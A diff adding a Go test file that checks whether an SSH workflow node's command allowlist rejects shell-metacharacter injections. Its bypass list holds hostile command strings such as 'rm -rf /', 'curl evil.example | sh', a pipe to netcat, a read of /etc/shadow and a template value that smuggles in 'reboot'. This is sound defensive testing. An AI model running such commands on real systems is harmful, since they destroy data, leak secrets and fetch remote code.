@@ -0,0 +1,53 @@
+package nodes_test
+
+import (
+	"context"
+	"testing"
+
+	"github.com/nuumz/f1ow/internal/nodes"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func sshConfig(command string) map[string]interface{} {
+	return map[string]interface{}{"host": "127.0.0.1", "username": "deploy", "private_key": "not a key", "command": command}
+}
+
+func TestSSHNode_AllowlistRejectsShellMetacharacters(t *testing.T) {
+	node := nodes.NewSSHNode([]string{"systemctl status *", "uptime"})
+
+	bypasses := []string{
+		"systemctl status nginx; rm -rf /",
+		"systemctl status nginx && curl evil.example | sh",
+		"systemctl status nginx || reboot",
+		"systemctl status nginx | nc evil.example 9000",
+		"systemctl status $(cat /etc/shadow)",
+		"systemctl status `id`",
+		"systemctl status nginx > /etc/passwd",
+		"systemctl status nginx\nreboot",
+		"systemctl status nginx & reboot",
+	}
+	for _, command := range bypasses {
+		_, err := node.Execute(context.Background(), sshConfig(command), nil)
+		assert.ErrorContains(t, err, "allowlist", command)
+	}
+
+	// Templates are expanded before the check
+	_, err := node.Execute(context.Background(), sshConfig("systemctl status {{service}}"), map[string]interface{}{"service": "nginx; reboot"})
+	assert.ErrorContains(t, err, "allowlist")
+
+	// Allowed commands get as far as authenticating
+	for _, command := range []string{"systemctl status nginx", "uptime"} {
+		_, err := node.Execute(context.Background(), sshConfig(command), nil)
+		assert.ErrorContains(t, err, "invalid private key", command)
+	}
+}
+
+func TestSSHNode_AllowlistRejectsScripts(t *testing.T) {
+	node := nodes.NewSSHNode([]string{"*"})
+
+	config := sshConfig("")
+	config["script"] = "echo hi"
+	_, err := node.Execute(context.Background(), config, nil)
+	assert.ErrorContains(t, err, "scripts are not allowed")
+}